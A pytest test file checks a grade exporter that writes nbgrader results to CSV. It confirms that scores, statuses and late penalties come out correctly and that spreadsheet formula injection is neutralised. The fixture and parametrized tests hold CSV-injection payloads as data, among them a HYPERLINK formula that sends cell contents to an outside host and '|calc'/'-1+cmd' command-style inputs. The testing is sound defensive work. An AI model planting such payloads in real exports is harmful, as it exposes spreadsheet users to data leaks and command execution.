"""The exported table: formulas come out as text, every value in its own field, and an ungraded submission is no 0."""

import csv
import os
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from nbgrader.api import Gradebook

from coursekit.grading.export import COLUMNS, SpreadsheetExport, inert
from coursekit.grading.scratch import nbgrader

# nbgrader itself makes SQLAlchemy 2.1 warn when it adds a submission.
pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"Click")'


@pytest.fixture
def gradebook(tmp_path, monkeypatch):
    """An assignment of one checked and one written question, and learners in every state."""
    path = os.pathsep.join([str(Path(sys.executable).parent), os.environ.get("PATH", "")])
    monkeypatch.setenv("PATH", path)  # nbgrader calls alembic by name
    with Gradebook(f"sqlite:///{tmp_path / 'gradebook.db'}") as book:
        book.add_assignment("week1")
        book.add_notebook("tensors", "week1")
        book.add_grade_cell("checked", "tensors", "week1", max_score=2, cell_type="code")
        book.add_grade_cell("written", "tensors", "week1", max_score=3, cell_type="markdown")
        for learner in ("graded", "failed", "absent", "waiting"):
            book.add_student(learner, last_name=FORMULA, first_name="Zoë, Ada\nand others", email="@SUM(1)")
        for learner in ("graded", "failed", "waiting"):
            book.add_submission("week1", learner)
        set_grade(book, "graded", "checked", auto_score=2, needs_manual_grade=False)
        set_grade(book, "graded", "written", manual_score=1.5, needs_manual_grade=False)
        set_grade(book, "waiting", "checked", auto_score=1, needs_manual_grade=False)
        yield book


def set_grade(book, learner, cell, **values):
    grade = book.find_grade(cell, "tensors", "week1", learner)
    for name, value in values.items():
        setattr(grade, name, value)
    book.db.commit()


def export(book, path, **options):
    SpreadsheetExport(to=str(path), **options).export(book)
    with open(path, newline="", encoding="utf-8") as file:
        return {row["student_id"]: row for row in csv.DictReader(file)}


def test_a_score_stands_only_where_something_was_graded(gradebook, tmp_path):
    rows = export(gradebook, tmp_path / "grades.csv")
    assert {learner: (row["status"], row["score"]) for learner, row in rows.items()} == {
        "graded": ("graded", "3.5"),
        "failed": ("not graded", ""),
        "absent": ("not handed in", ""),
        "waiting": ("waits for a person", "1.0"),
    }
    assert rows["graded"]["max_score"] == "5.0"


def test_names_come_out_as_text_in_their_own_field(gradebook, tmp_path):
    row = export(gradebook, tmp_path / "grades.csv")["graded"]
    assert row["last_name"] == "'" + FORMULA
    assert row["first_name"] == "Zoë, Ada and others"
    assert row["email"] == "'@SUM(1)"
    assert tuple(row) == COLUMNS


def test_only_the_wanted_rows(gradebook, tmp_path):
    assert list(export(gradebook, tmp_path / "a.csv", student=["graded"])) == ["graded"]
    assert export(gradebook, tmp_path / "b.csv", assignment=["week2"]) == {}


def test_a_late_submission_loses_its_penalty_and_never_falls_below_zero(gradebook, tmp_path):
    submission = gradebook.find_submission("week1", "graded")
    for notebook, penalty, score in (("tensors", 1.5, "2.0"), ("tensors", 99, "0.0")):
        gradebook.find_submission_notebook(notebook, "week1", "graded").late_submission_penalty = penalty
        gradebook.db.commit()
        row = export(gradebook, tmp_path / "grades.csv")["graded"]
        assert (float(row["late_submission_penalty"]), row["score"]) == (submission.late_submission_penalty, score)


def test_nbgrader_takes_it_as_its_exporter(gradebook, tmp_path):
    done = nbgrader("export", "--exporter", "coursekit.grading.export.SpreadsheetExport", folder=tmp_path)
    assert done.returncode == 0, done.stderr
    assert "not handed in" in (tmp_path / "grades.csv").read_text(encoding="utf-8")


@pytest.mark.parametrize(
    "text",
    ["=1", " =1", "\t=1", "\r\n@x", "+1", "-1+cmd", "\u200b=1", "\ufeff=1", "＝1", "＋1", "|calc", "%x", "\xa0=1"],
)
def test_what_could_begin_a_formula_is_marked_as_text(text):
    assert inert(text).startswith("'")


@pytest.mark.parametrize("text", ["Zoë", "O'Hara", "a=b", "李", "2026-01-01 10:00:00", "", "x@example.org"])
def test_honest_text_stays_as_it_is(text):
    assert inert(text) == text


@given(st.text())
def test_no_text_begins_like_a_formula_or_breaks_its_line(text):
    shown = inert(text)
    assert not shown.lstrip().startswith(("=", "+", "-", "@"))
    assert not set(shown) & {"\n", "\r", "\t", "\0"}


@given(st.floats(allow_nan=False))
def test_numbers_stay_numbers(number):
    assert inert(number) == number
